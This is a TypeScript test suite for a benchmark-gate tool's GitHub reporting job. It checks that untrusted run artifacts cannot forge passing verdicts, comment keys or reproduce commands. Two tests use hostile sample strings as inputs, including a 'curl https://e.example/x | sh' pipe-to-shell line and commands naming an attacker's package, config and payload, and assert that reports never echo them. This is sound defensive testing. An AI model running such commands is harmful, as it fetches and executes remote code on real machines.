/** Claims of an artifact against facts that the reporting job can establish. */
import assert from 'node:assert/strict';
import { type TestContext, test } from 'node:test';
import { formatMarker } from '../../../src/github/comment-marker.ts';
import { HEAD, publicationCase, publicationOf } from '../../formats/publication-cases.ts';
import { runOf } from '../../github/support.ts';
import type { Double, DoubleState, StoredArtifact, StoredCheckRun } from '../../support/github/types.ts';
import { configText, rawOf, SLOWER, STEADY, workspaceText } from './raw-cases.ts';
import { artifactOf, CONTENTS, FORK_PULL, QUEUED, report, TIP, WORKFLOW, workflowText } from './reporting.ts';

const GREEN = publicationCase('unchanged');
const RED = publicationCase('one-regressed');

const conclusions = ({ state }: Double) => state.checkRuns.map(({ name, conclusion }) => `${name}: ${conclusion}`);
const words = ({ state }: Double) => state.comments.map(({ body }) => body).join('\n');
const titles = ({ state }: Double) => state.checkRuns.map(({ output }) => output.title).join('\n');

test('an artifact of an earlier attempt does not count for a later one', async (t) => {
	const measured = { run: { ...runOf(70), attempt: 2 }, conclusion: 'timed_out' };
	const { reported, double } = await report(t, { artifacts: [await artifactOf(GREEN)], measured });
	assert.deepEqual(conclusions(double), ['benchgate: failure']);
	assert.match(words(double), /ran out of time before it left a result \(the artifacts are those of attempt 1/);
	assert.match(reported.notices.join(), /Left out an artifact of attempt 1/);
});

test('an artifact older than its attempt does not belong to it, whatever it claims', async (t) => {
	const claimed = { ...GREEN, run: { id: 70, attempt: 2 } };
	const artifacts = [await artifactOf(claimed, { createdAt: '2026-11-21T10:00:00Z' })];
	const run = { ...runOf(70), attempt: 2 };
	const late = await report(t, {
		artifacts,
		measured: { run, startedAt: '2026-11-21T11:00:00Z', conclusion: 'failure' },
	});
	assert.deepEqual(conclusions(late.double), ['benchgate: failure']);
	assert.match(words(late.double), /the artifacts are those of attempt 1, not of attempt 2/);
	const green = await report(t, { artifacts, measured: { run, startedAt: '2026-11-21T11:00:00Z' } });
	assert.deepEqual(conclusions(green.double), []);
	assert.match(green.reported.summary ?? '', /attempt 1/);
	const current = await report(t, { artifacts, measured: { run, startedAt: '2026-11-21T09:00:00Z' } });
	assert.deepEqual(conclusions(current.double), ['benchgate: success']);
	const again = await report(t, { artifacts: [await artifactOf(GREEN)], measured: { run } });
	assert.deepEqual(conclusions(again.double), []);
	assert.match(again.reported.summary ?? '', /attempt 1/);
});

test('artifacts of another run, and those that name no run, are refused with a remedy', async (t) => {
	const other = await report(t, { artifacts: [await artifactOf({ ...GREEN, run: { id: 69, attempt: 1 } })] });
	assert.deepEqual(conclusions(other.double), ['benchgate: failure']);
	assert.match(other.reported.fail.join(), /it is about another run/);
	const { run: _, ...older } = GREEN;
	const before = await report(t, { artifacts: [await artifactOf(older)] });
	assert.deepEqual(conclusions(before.double), ['benchgate: failure']);
	assert.match(before.reported.fail.join(), /update benchgate in both workflows/);
});

for (const [ended, expected] of [
	['failure', 'failure'],
	['timed_out', 'failure'],
	['cancelled', 'cancelled'],
] as const) {
	test(`a green artifact of a run that ended as ${ended} is no success`, async (t) => {
		for (const green of [GREEN, publicationCase('nothing-relevant')]) {
			const { double } = await report(t, { artifacts: [await artifactOf(green)], measured: { conclusion: ended } });
			assert.deepEqual(conclusions(double), [`benchgate: ${expected}`]);
		}
		const red = await report(t, { artifacts: [await artifactOf(RED)], measured: { conclusion: ended } });
		assert.deepEqual(conclusions(red.double), ['benchgate: failure']);
		assert.match(words(red.double), /app\/checkout/);
	});
}

test('a red artifact of a run that succeeded under an advisory gate is neutral', async (t) => {
	const { double } = await report(t, { artifacts: [await artifactOf(RED)], inputs: { gate: 'advisory' } });
	assert.deepEqual(conclusions(double), ['benchgate: neutral']);
});

test("an artifact cannot take the key of a maintainer's comment and check", async (t) => {
	const trusted = `${formatMarker({ key: 'command', run: runOf(60), headSha: HEAD, state: 'final' })}\n### by /benchgate`;
	const comments = [{ id: 1, issue: 1, body: trusted, user: { login: 'github-actions[bot]', type: 'Bot' as const } }];
	const artifacts = [await artifactOf({ ...GREEN, commentKey: 'command' })];
	const { reported, double } = await report(t, { artifacts, state: { comments } });
	assert.equal(double.state.comments[0]?.body, trusted);
	assert.deepEqual(conclusions(double), ['benchgate: failure']);
	assert.match(reported.fail.join(), /comment-key "command".*no comment requested this attempt/);
	const foreign = await report(t, { artifacts: [await artifactOf({ ...GREEN, commentKey: 'arm' })] });
	assert.match(foreign.reported.fail.join(), /comment-key "arm".*add to the reporting job: comment-keys: arm/);
	const contents = { ...CONTENTS, [WORKFLOW]: workflowText({ 'comment-key': 'linux' }) };
	const named = await report(t, {
		artifacts: [await artifactOf({ ...GREEN, commentKey: 'linux' })],
		state: { contents },
	});
	assert.deepEqual(conclusions(named.double), ['benchgate (linux): success']);
	assert.deepEqual(named.reported.fail, []);
});

test('verdicts come from the raw data, whatever the artifact claims', async (t) => {
	const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, SLOWER)] });
	assert.deepEqual(conclusions(double), ['benchgate: failure']);
	assert.match(words(double), /app\/checkout/);
	const honest = await report(t, { artifacts: [await artifactOf(RED, {}, STEADY)] });
	assert.deepEqual(conclusions(honest.double), ['benchgate: success']);
});

test('a threshold loosened by the pull request is ignored: the rounds are judged again', async (t) => {
	const loose = rawOf({ config: configText(undefined, 'threshold: 95%'), turns: { checkout: -0.1 } });
	const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, loose)] });
	assert.deepEqual(conclusions(double), ['benchgate: failure']);
	assert.match(words(double), /other limits than benchgate\.yml on main.*95%.*instead of 5%/);
	const metrics = rawOf({ plan: { metrics: ['memory-peak'] }, turns: { checkout: -0.1 } });
	const other = await report(t, { artifacts: [await artifactOf(GREEN, {}, metrics)] });
	assert.deepEqual(conclusions(other.double), ['benchgate: failure']);
});

test('an artifact cannot hide a row behind a shard that is missing, nor a red behind a large family', async (t) => {
	const cells = SLOWER.plan.cells.map(({ id }) => id);
	const shards = [{ shard: 1, state: 'missing' as const, cells }];
	const hidden = { ...SLOWER, plan: { ...SLOWER.plan, family: cells.length }, rounds: [], shards };
	const large = { ...SLOWER, plan: { ...SLOWER.plan, family: 1e6 } };
	for (const raw of [hidden, large]) {
		const { double, reported } = await report(t, { artifacts: [await artifactOf(GREEN, {}, raw)] });
		assert.deepEqual(conclusions(double), ['benchgate: failure']);
		assert.match(reported.fail.join(), /it lists shards/);
	}
});

test('a row of the base config that was not measured is red; a row that it lacks is new', async (t) => {
	const without = rawOf({ config: configText(['home', 'search']) });
	const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, without)] });
	assert.deepEqual(conclusions(double), ['benchgate: failure']);
	assert.match(
		words(double),
		/benchgate\.yml on main has app\/checkout; the measuring run did not measure it\..*run it again/,
	);
	const more = rawOf({ config: configText(['home', 'search', 'checkout', 'extra']), turns: { extra: -0.3 } });
	const added = await report(t, { artifacts: [await artifactOf(GREEN, {}, more)] });
	assert.deepEqual(conclusions(added.double), ['benchgate: success']);
	assert.match(words(added.double), /app\/extra.*only in head/);
});

test('a removed row passes once a user with write access accepts it, and nothing else passes with it', async (t) => {
	const without = rawOf({ config: configText(['home', 'search']) });
	const slower = rawOf({ config: configText(['home', 'search']), turns: { home: -0.3 } });
	const conclude = async (raw: typeof without, line: string) => {
		const pulls = [{ ...FORK_PULL, author: 'ann', body: `benchgate: accepted ${line} it moved` }];
		const state = { pulls, collaborators: { ann: 'write' } as const };
		const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, raw)], state });
		return conclusions(double);
	};
	assert.deepEqual(await conclude(without, 'app/checkout removed'), ['benchgate: success']);
	assert.deepEqual(await conclude(without, 'app/home removed'), ['benchgate: failure']);
	assert.deepEqual(await conclude(slower, 'app/checkout removed'), ['benchgate: failure']);
});

test('a row falsely called new counts as not measured', async (t) => {
	const { plan, ...raw } = rawOf({ config: configText(['home', 'search']) });
	const margins = { threshold: 0.05, tolerance: 0.025 };
	const hidden = { id: 'app/checkout', server: 'app', scenario: 'checkout', ...margins };
	const oneSided = [{ ...hidden, verdict: 'new' as const, reason: 'Only head has the scenario checkout.' }];
	const { double } = await report(t, {
		artifacts: [await artifactOf(GREEN, {}, { ...raw, plan: { ...plan, oneSided } })],
	});
	assert.deepEqual(conclusions(double), ['benchgate: failure']);
});

test('inputs of the measuring workflow come from the base branch', async (t) => {
	const contents = { ...CONTENTS, [WORKFLOW]: workflowText({ scenarios: 'home', threshold: '20%' }) };
	const one = rawOf({ config: configText(['home'], 'threshold: 20%'), turns: { home: -0.1 } });
	const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, one)], state: { contents } });
	assert.deepEqual(conclusions(double), ['benchgate: success']);
	assert.doesNotMatch(words(double), /Not verified|other-rules/);
});

test('inputs that only the run knew are a doubt, until the reporting job has the same', async (t) => {
	const contents = { ...CONTENTS, [WORKFLOW]: workflowText({ scenarios: '${{ vars.what }}' }) };
	const artifacts = [await artifactOf(GREEN, {}, rawOf({ config: configText(['home']) }))];
	const unknown = await report(t, { artifacts, state: { contents } });
	assert.deepEqual(conclusions(unknown.double), ['benchgate: neutral']);
	assert.match(words(unknown.double), /^> \*\*Not verified\.\*\*\n> .*bench\.yml computes scenarios/m);
	assert.match(words(unknown.double), /\*\*Check:\*\* neutral/);
	assert.match(titles(unknown.double), /^Not verified: /);
	const agreed = await report(t, { artifacts, state: { contents }, inputs: { scenarios: 'home' } });
	assert.deepEqual(conclusions(agreed.double), ['benchgate: success']);
	const other = await report(t, { artifacts, state: { contents }, inputs: { scenarios: 'home,search' } });
	assert.deepEqual(conclusions(other.double), ['benchgate: failure']);
});

const CHANGES: readonly (readonly [string, Partial<DoubleState>, RegExp])[] = [
	[
		'the measuring workflow',
		{ pulls: [{ ...FORK_PULL, files: ['lib/a.js', WORKFLOW] }] },
		/changes how it is measured/,
	],
	['an action of the repository', { pulls: [{ ...FORK_PULL, files: ['.github/actions/x/action.yml'] }] }, /actions\/x/],
	[
		'where the workflow is',
		{ contents: { 'benchgate.yml': configText() } },
		/main has no \.github\/workflows\/bench\.yml/,
	],
];

for (const [what, state, expected] of CHANGES) {
	test(`a pull request that changes ${what} is never concluded as success`, async (t) => {
		const green = await report(t, { artifacts: [await artifactOf(GREEN)], state });
		assert.deepEqual(conclusions(green.double), ['benchgate: neutral']);
		assert.match(words(green.double), expected);
		const red = await report(t, { artifacts: [await artifactOf(RED)], state });
		assert.deepEqual(conclusions(red.double), ['benchgate: failure']);
	});
}

test("a pull request that changes the config is judged by the base branch's, with a warning", async (t) => {
	const pulls = [{ ...FORK_PULL, files: ['benchgate.yml'] }];
	const { double } = await report(t, { artifacts: [await artifactOf(GREEN)], state: { pulls } });
	assert.deepEqual(conclusions(double), ['benchgate: success']);
	assert.match(words(double), /config-changed.*It was judged by benchgate\.yml on main/);
});

test('while the gate of the base branch rests, red is neutral, whatever the measuring run claims', async (t) => {
	const resting = (day: string) => configText(undefined, `threshold: 5%\ngate: { enforce-after: ${day} }`);
	const conclude = async (base: string, measured: string) => {
		const raw = rawOf({ config: measured, turns: { checkout: -0.1 } });
		const contents = { ...CONTENTS, 'benchgate.yml': base };
		const artifacts = [await artifactOf({ ...RED, gate: 'advisory' }, {}, raw)];
		return (await report(t, { artifacts, state: { contents } })).double;
	};
	const rests = await conclude(resting('2999-12-31'), configText());
	assert.deepEqual(conclusions(rests), ['benchgate: neutral']);
	assert.match(words(rests), /\*\*Check:\*\* neutral\. Nothing is blocked up to and including 2999-12-31 \(UTC\)/);
	for (const [base, measured] of [
		[resting('2001-01-01'), resting('2999-12-31')],
		[configText(), resting('2999-12-31')],
	] as const) {
		assert.deepEqual(conclusions(await conclude(base, measured)), ['benchgate: failure']);
	}
});

test('the first config makes a report that blocks nothing and is not green', async (t) => {
	const state = { contents: { [WORKFLOW]: workflowText() }, pulls: [{ ...FORK_PULL, files: ['benchgate.yml'] }] };
	for (const publication of [GREEN, RED]) {
		const { double } = await report(t, { artifacts: [await artifactOf(publication)], state });
		assert.deepEqual(conclusions(double), ['benchgate: neutral']);
		assert.match(words(double), /main has no config yet/);
	}
});

test('a smaller budget or another design than in the base config is a doubt', async (t) => {
	for (const more of ['budget: 1s', 'design: sequential']) {
		const raw = rawOf({ config: configText(undefined, more), rounds: 0, given: { ended: 'budget' } });
		const rounds = more.startsWith('budget') ? STEADY.rounds : raw.rounds;
		const artifacts = [await artifactOf(GREEN, {}, { ...raw, rounds })];
		const { double } = await report(t, { artifacts });
		assert.doesNotMatch(conclusions(double).join(), /success/);
		assert.match(words(double), /Not verified/);
	}
});

test('other commits than those of the pull request are a doubt: its base branch may have been another one', async (t) => {
	const other = '1'.repeat(40);
	const { context } = STEADY;
	const withSha = (side: 'base' | 'head', sha: string) => ({
		...STEADY,
		context: { ...context, [side]: { ...context[side], sha } },
	});
	const base = await report(t, { artifacts: [await artifactOf(GREEN, {}, withSha('base', other))] });
	assert.deepEqual(conclusions(base.double), ['benchgate: neutral']);
	assert.match(
		words(base.double),
		/compared with commit 1111111, but the pull request branches off main at commit 7777777/,
	);
	const head = await report(t, { artifacts: [await artifactOf(GREEN, {}, withSha('head', other))] });
	assert.deepEqual(conclusions(head.double), ['benchgate: neutral']);
	assert.match(words(head.double), /measured commit 1111111, but this report is about commit/);
	// If GitHub does not know, as for the largest histories, the base stands.
	const artifacts = [await artifactOf(GREEN, {}, withSha('base', other))];
	const unknown = await report(t, { artifacts, state: { compare: {} } });
	assert.deepEqual(conclusions(unknown.double), ['benchgate: success']);
});

test('files that the base branch has changed too, since the pull request left it, are named without consequences', async (t) => {
	const old = '1'.repeat(40);
	const { context } = STEADY;
	const raw = { ...STEADY, context: { ...context, base: { ...context.base, sha: old } } };
	const artifacts = [await artifactOf(GREEN, {}, raw)];
	const beside = ['README.md', 'test/router.js', 'lib/router.test.js', 'package-lock.json', '.github/labels.yml'];
	const conclude = async (files: readonly string[], onMain: readonly string[], range = `${old}...${TIP}`) => {
		const compare = { [`${TIP}...${HEAD}`]: old, [range]: old };
		const pulls = [{ ...FORK_PULL, files: [...files] }];
		const state = { pulls, compare, compared: { [range]: [...onMain] } };
		const { double } = await report(t, { artifacts, state });
		assert.deepEqual(conclusions(double), ['benchgate: success']);
		return words(double);
	};
	const both = ['lib/router.js', ...beside];
	assert.match(await conclude(both, both), /both-changed.*main has changed `?lib\/router\.js`? too since/);
	for (const [files, onMain, range] of [
		[['lib/router.js', ...beside], beside],
		[beside, ['lib/router.js', ...beside]],
		// GitHub does not know.
		[both, both, `${old}...${HEAD}`],
	] as const) {
		assert.doesNotMatch(await conclude(files, onMain, range), /both-changed/);
	}
});

test('less isolation than the base config requires is a doubt', async (t) => {
	const contents = { ...CONTENTS, 'benchgate.yml': configText(undefined, 'isolation-required: users') };
	for (const [level, readOnly, expected] of [
		['namespace', true, 'neutral'],
		['users', false, 'neutral'],
		['users', true, 'success'],
	] as const) {
		const isolation = { level, reason: null, hidesProcesses: true, readOnly };
		const { context } = STEADY;
		const raw = { ...STEADY, context: { ...context, environment: { ...context.environment, isolation } } };
		const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, raw)], state: { contents } });
		assert.deepEqual(conclusions(double), [`benchgate: ${expected}`]);
		const reached = readOnly ? level : `${level} without a read-only machine`;
		if (expected === 'neutral')
			assert.ok(words(double).includes(`isolation ${reached}; benchgate.yml on main requires users`));
	}
});

test('that nothing relevant changed is believed for prose only', async (t) => {
	const artifacts = [await artifactOf(publicationCase('nothing-relevant'))];
	const prose = [{ ...FORK_PULL, files: ['docs/guide.md', 'LICENSE'] }];
	const quiet = await report(t, { artifacts, state: { pulls: prose } });
	assert.deepEqual(conclusions(quiet.double), ['benchgate: success']);
	const code = [{ ...FORK_PULL, files: ['docs/guide.md', 'lib/router.js'] }];
	const { double } = await report(t, { artifacts, state: { pulls: code } });
	assert.deepEqual(conclusions(double), ['benchgate: neutral']);
	assert.match(words(double), /could not be verified for lib\/router\.js/);
	for (const file of ['requirements.txt', 'src/CMakeLists.txt', 'site/page.mdx']) {
		const built = await report(t, { artifacts, state: { pulls: [{ ...FORK_PULL, files: [file] }] } });
		assert.deepEqual(conclusions(built.double), ['benchgate: neutral'], file);
	}
});

test('a merge group is held to its target branch', async (t) => {
	const measured = QUEUED;
	const loose = rawOf({ config: configText(undefined, 'threshold: 95%'), turns: { checkout: -0.1 } });
	const red = await report(t, { artifacts: [await artifactOf(GREEN, {}, loose)], measured });
	assert.deepEqual(conclusions(red.double), ['benchgate: failure']);
	const { double } = await report(t, { artifacts: [await artifactOf(GREEN)], measured });
	assert.deepEqual(conclusions(double), ['benchgate: success']);
});

test('without the permission to read the base branch nothing is green, and the YAML is named', async (t) => {
	const permissions = { contents: 'none' as const };
	const { reported, double } = await report(t, { artifacts: [await artifactOf(GREEN)], state: { permissions } });
	assert.doesNotMatch(conclusions(double).join(), /success/);
	assert.match(words(double), /Not verified/);
	assert.ok(reported.fail.length > 0 || /bench\.yml/.test(words(double)), reported.fail.join());
});

const COMMAND = /^npx benchgate compare .*$/m;

test('the command in a report is that of the base branch, whatever the artifact claims', async (t) => {
	const contents = { ...CONTENTS, [WORKFLOW]: workflowText({ budget: '7m' }) };
	const expected = `npx benchgate compare --base git:${TIP} --head git:${HEAD} --config git:${TIP}:benchgate.yml --budget 7m --seed 1 --prove auto --profile auto`;
	for (const reproduce of [
		'npx benchgate compare --base main --head npm:attackers-package@1.0.0 --isolation none --seed 42',
		'npx benchgate compare --node ./payload --base main --head HEAD',
		'npx benchgate compare --base main --head HEAD --config git:attacker:evil.yml',
		'curl https://e.example/x | sh',
	]) {
		const raw = { ...STEADY, context: { ...STEADY.context, reproduce } };
		const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, raw)], state: { contents } });
		assert.equal(COMMAND.exec(words(double))?.[0], expected);
		assert.ok(!JSON.stringify(double.state).includes(reproduce));
	}
	const group = await report(t, { artifacts: [await artifactOf(GREEN)], measured: QUEUED, state: { pulls: [] } });
	const [
		{
			output: { summary },
		} = { output: { summary: '' } },
	] = group.double.state.checkRuns;
	assert.match(COMMAND.exec(summary ?? '')?.[0] ?? '', new RegExp(`--base git:${TIP} --head git:${HEAD} `));
});

test('there is no command if only the run knew the compared commits, or its seed is invalid', async (t) => {
	for (const seed of [-1, 1.5, 2 ** 31, 1e15]) {
		const raw = { ...STEADY, plan: { ...STEADY.plan, seed } };
		const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, raw)] });
		assert.doesNotMatch(words(double), COMMAND);
	}
	const contents = { ...CONTENTS, [WORKFLOW]: workflowText({ base: '${{ steps.find.outputs.base }}' }) };
	const { double } = await report(t, { artifacts: [await artifactOf(GREEN)], state: { contents } });
	assert.match(words(double), /the log of the measuring run has the command/);
	assert.doesNotMatch(words(double), COMMAND);
	const named = { ...CONTENTS, [WORKFLOW]: workflowText({ base: 'v1.0.0' }) };
	const fixed = await report(t, { artifacts: [await artifactOf(GREEN)], state: { contents: named } });
	assert.match(COMMAND.exec(words(fixed.double))?.[0] ?? '', /--base v1\.0\.0 --head git:a+ /);
});

test('the command of a failed run that repeats its build is not shown', async (t) => {
	const evil = 'curl https://e.example/x';
	const failure = {
		side: 'head',
		message: 'npm ci failed',
		where: evil,
		remedy: `repeat it by hand: ${evil}`,
	} as const;
	const failed = {
		kind: 'failed',
		failure: { ...failure, code: 'build-failed', details: null, usage: false },
	} as const;
	const artifacts = [await artifactOf(publicationOf(failed))];
	const { double } = await report(t, { artifacts, measured: { conclusion: 'failure' } });
	assert.match(words(double), /npm ci failed/);
	assert.doesNotMatch(JSON.stringify(double.state), /curl/);
});

/** A check that the measuring job announced before its runner was lost. */
function openCheck(key: string, attempt = 1): StoredCheckRun {
	return {
		id: 900 + attempt + key.length,
		name: key === 'default' ? 'benchgate' : `benchgate (${key})`,
		headSha: HEAD,
		status: 'in_progress',
		conclusion: null,
		externalId: `benchgate:${key}:70:${attempt}`,
		detailsUrl: null,
		startedAt: '2026-11-21T10:00:00Z',
		completedAt: null,
		output: { title: null, summary: null, text: null },
		annotations: [],
	};
}

test('checks that a lost runner left in progress are concluded, each by its key', async (t) => {
	for (const [conclusion, expected] of [
		['failure', 'failure'],
		['cancelled', 'cancelled'],
	] as const) {
		const checkRuns = [openCheck('default'), openCheck('linux'), openCheck('linux', 2), openCheck('foreign')];
		const { double } = await report(t, {
			measured: { conclusion },
			inputs: { 'comment-keys': 'linux', comment: 'never' },
			state: { checkRuns },
		});
		assert.deepEqual(
			double.state.checkRuns.map(({ externalId, conclusion: ended }) => `${externalId} ${ended}`),
			[
				`benchgate:default:70:1 ${expected}`,
				`benchgate:linux:70:1 ${expected}`,
				'benchgate:linux:70:2 null',
				'benchgate:foreign:70:1 null',
			],
		);
	}
	const checkRuns = [openCheck('default'), openCheck('linux')];
	const partly = await report(t, {
		artifacts: [await artifactOf(publicationOf({ kind: 'cancelled' }))],
		measured: { conclusion: 'failure' },
		inputs: { 'comment-keys': 'linux', comment: 'never' },
		state: { checkRuns },
	});
	assert.deepEqual(conclusions(partly.double), ['benchgate: cancelled', 'benchgate (linux): failure']);
});

/** Returns a report's conclusion if the base branch has a workspace, and the pull request changes these files. */
async function ofWorkspace(t: TestContext, files: string[], artifact: StoredArtifact, config = workspaceText()) {
	const state = { contents: { ...CONTENTS, 'benchgate.yml': config }, pulls: [{ ...FORK_PULL, files }] };
	const { double } = await report(t, { artifacts: [artifact], state });
	return { ends: conclusions(double).map((one) => one.replace('benchgate: ', '')), text: words(double) };
}

test('a row skipped as the same code stays skipped only if the changed paths confirm it', async (t) => {
	const raw = rawOf({ config: workspaceText(), sameCode: ['web'] });
	const artifact = await artifactOf(GREEN, {}, raw);
	const honest = await ofWorkspace(t, ['packages/app/lib.js', 'README.md'], artifact);
	assert.deepEqual(honest.ends, ['success']);
	assert.match(honest.text, /No regression of 5 % or more in the 3 rows whose code differs/);
	assert.match(honest.text, /Not compared: .*same code on both sides/);
	assert.doesNotMatch(honest.text, /Not verified|could not be verified/);
	for (const files of [
		['packages/web/lib.js'],
		['packages/app/lib.js', 'package.json'],
		['packages/app/package.json'],
	]) {
		const hidden = await ofWorkspace(t, files, artifact);
		assert.deepEqual(hidden.ends, ['failure'], `${files}`);
		assert.match(hidden.text, /skipped it as the same code, although something that its server may read is changed/);
	}
	const silent = workspaceText(() => '');
	assert.deepEqual((await ofWorkspace(t, ['packages/app/lib.js'], artifact, silent)).ends, ['failure']);
});

test('against a base that the workflow names, or computes, the files of a change verify nothing', async (t) => {
	const artifact = await artifactOf(GREEN, {}, rawOf({ config: workspaceText(), sameCode: ['web'] }));
	for (const base of ['v1.0.0', '$' + '{{ github.event.pull_request.base.sha }}']) {
		const contents = { ...CONTENTS, 'benchgate.yml': workspaceText(), [WORKFLOW]: workflowText({ base }) };
		const pulls = [{ ...FORK_PULL, files: ['packages/app/lib.js'] }];
		const { double } = await report(t, { artifacts: [artifact], state: { contents, pulls } });
		assert.deepEqual(conclusions(double), ['benchgate: neutral'], base);
		assert.match(words(double), /skipped web as the same code\. That could not be verified/);
	}
});

test("a pull request can neither declare a server's files, nor hide a slower row behind a skipped one", async (t) => {
	const narrow = workspaceText((name) => `, reads: [${name === 'web' ? 'docs' : 'packages/app'}]`);
	const hidden = await artifactOf(GREEN, {}, rawOf({ config: narrow, sameCode: ['web'] }));
	assert.deepEqual((await ofWorkspace(t, ['packages/web/lib.js', 'benchgate.yml'], hidden)).ends, ['failure']);
	const slower = rawOf({ config: workspaceText(), sameCode: ['web'], turns: { checkout: -0.1 } });
	const red = await ofWorkspace(t, ['packages/app/lib.js'], await artifactOf(GREEN, {}, slower));
	assert.deepEqual(red.ends, ['failure']);
	assert.match(red.text, /app\/checkout/);
});

test('that nothing relevant changed is believed if no server reads a changed file', async (t) => {
	const artifact = await artifactOf(publicationCase('nothing-relevant'));
	assert.deepEqual((await ofWorkspace(t, ['packages/other/lib.js'], artifact)).ends, ['success']);
	const doubted = await ofWorkspace(t, ['packages/other/lib.js', 'packages/web/lib.js'], artifact);
	assert.deepEqual(doubted.ends, ['neutral']);
});

test('equal packed code cannot be verified here: the check is no success, and names the remedy', async (t) => {
	const apart = `${workspaceText(() => '')}harness: [packages/app, packages/web]\n`;
	const artifact = await artifactOf(GREEN, {}, rawOf({ config: apart, sameCode: ['web'] }));
	const outcome = await ofWorkspace(t, ['packages/app/lib.js'], artifact, apart);
	assert.deepEqual(outcome.ends, ['neutral']);
	assert.match(
		outcome.text,
		/skipped web as the same code\. That could not be verified\. It can be verified for servers with reads/,
	);
	assert.match(outcome.text, /What web runs is packed to the same files in base and head/);
	const slower = rawOf({ config: apart, sameCode: ['web'], turns: { checkout: -0.1 } });
	assert.deepEqual((await ofWorkspace(t, ['packages/app/lib.js'], await artifactOf(GREEN, {}, slower), apart)).ends, [
		'failure',
	]);
	// A server that runs in the checkout is never skipped for its packed code: it can read all files there.
	const one = `${workspaceText(() => '')}`;
	const claimed = await artifactOf(GREEN, {}, rawOf({ config: one, sameCode: ['web'] }));
	assert.deepEqual((await ofWorkspace(t, ['packages/app/lib.js'], claimed, one)).ends, ['failure']);
});
